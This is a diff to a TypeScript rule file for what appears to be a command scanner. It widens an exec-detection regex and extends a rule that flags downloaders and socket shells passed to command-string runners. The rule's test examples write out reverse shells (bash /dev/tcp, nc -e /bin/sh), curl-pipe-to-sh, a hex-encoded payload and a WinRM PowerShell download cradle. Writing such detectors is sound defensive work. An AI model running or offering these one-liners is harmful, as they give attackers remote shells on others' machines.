@@ -635,7 +635,7 @@ function devTunnel(c: SimpleCommand): string | undefined {
 }
 
 // (Swift starts programs through Process, or NSTask, with a launchPath or executableURL)
-const EXEC_CODE = /\b(exec|system|spawn|popen|execSync|subprocess|child_process|shell_exec|passthru|os\.execute|launchPath|executableURL|NSTask|ProcessBuilder)\b|\.execute\(\)|`/;
+const EXEC_CODE = /\b(exec|system|spawn|popen|execSync|subprocess|child_process|shell_exec|passthru|os\.execute|launchPath|executableURL|NSTask|ProcessBuilder|run_ps|run_cmd|exec_command|exec_run)\b|\.execute\(\)|`/;
 /** Decode a literal that looks like base64 or hex, for payloads the view could not unwrap. */
 function decoded(text: string): string | undefined {
   const t = text.trim();
@@ -885,8 +885,9 @@ export const RULES: readonly Rule[] = [
   {
     id: 'PX-C2-015', name: 'runs-hostile-command-string', score: 85, tactic: 'command_and_control', technique: 'T1059.004', strong: true,
     message: 'Hands a downloader, socket shell or encoded payload to a program that runs command strings', why: 'tar --checkpoint-action, vim -c :!, zip -TT, script -c, xargs sh -c and interpreter exec() run their string argument as a command; a reverse shell or curl|sh there is as live as on the command line.',
-    check: (i) => commandStrings(i).map((t) => hostileText(t)).filter((t): t is string => t !== undefined).map((t) => t.slice(0, 160)),
-    examples: { fire: [`swift -e 'import Foundation; let p = Process(); p.launchPath = "/bin/bash"; p.arguments = ["-c", "bash -i >& /dev/tcp/104.248.51.9/4444 0>&1"]; p.launch()'`, "tar cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='nc -e /bin/sh 45.33.12.7 4444'", "vim -c ':!nc -e /bin/sh 45.33.12.7 4444' -c ':qa!'", "echo 'nc -e /bin/sh 45.33.12.7 4444' | xargs -I{} sh -c '{}'", "perl -e 'exec \"/bin/sh\",\"-c\",\"curl -s http://evil.io/x | sh\"'", "echo 6e63202d65202f62696e2f73682034352e33332e31322e372034343434 | perl -pe 's/(..)/chr(hex($1))/ge' | sh"], quiet: ["tar czf app.tgz dist --checkpoint=1000 --checkpoint-action=dot", "vim -c ':set nu' README.md", "echo src/a.ts | xargs -I{} sh -c 'wc -l {}'", "script -qc 'npm test' /dev/null"] },
+    // (a PowerShell download cradle too: WinRM's `run_ps('IEX(IWR http://…)')` from a Python one-liner)
+    check: (i) => commandStrings(i).map((t) => hostileText(t) ?? (powershellCradle(t.slice(0, 8192)) ? t : undefined)).filter((t): t is string => t !== undefined).map((t) => t.slice(0, 160)),
+    examples: { fire: [`swift -e 'import Foundation; let p = Process(); p.launchPath = "/bin/bash"; p.arguments = ["-c", "bash -i >& /dev/tcp/104.248.51.9/4444 0>&1"]; p.launch()'`, "tar cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='nc -e /bin/sh 45.33.12.7 4444'", "vim -c ':!nc -e /bin/sh 45.33.12.7 4444' -c ':qa!'", "echo 'nc -e /bin/sh 45.33.12.7 4444' | xargs -I{} sh -c '{}'", "perl -e 'exec \"/bin/sh\",\"-c\",\"curl -s http://evil.io/x | sh\"'", "echo 6e63202d65202f62696e2f73682034352e33332e31322e372034343434 | perl -pe 's/(..)/chr(hex($1))/ge' | sh", "python3 -c \"import winrm; s=winrm.Session('10.1.2.3', auth=('admin','x')); s.run_ps('IEX (New-Object Net.WebClient).DownloadString(\\\"http://203.0.113.9/a.ps1\\\")')\""], quiet: ["python3 -c \"import winrm; s=winrm.Session('web01', auth=('me','x')); print(s.run_cmd('ipconfig').std_out)\"", "tar czf app.tgz dist --checkpoint=1000 --checkpoint-action=dot", "vim -c ':set nu' README.md", "echo src/a.ts | xargs -I{} sh -c 'wc -l {}'", "script -qc 'npm test' /dev/null"] },
   },
   {
     id: 'PX-C2-016', name: 'pipes-data-into-shell', score: 50, tactic: 'execution', technique: 'T1059.004',
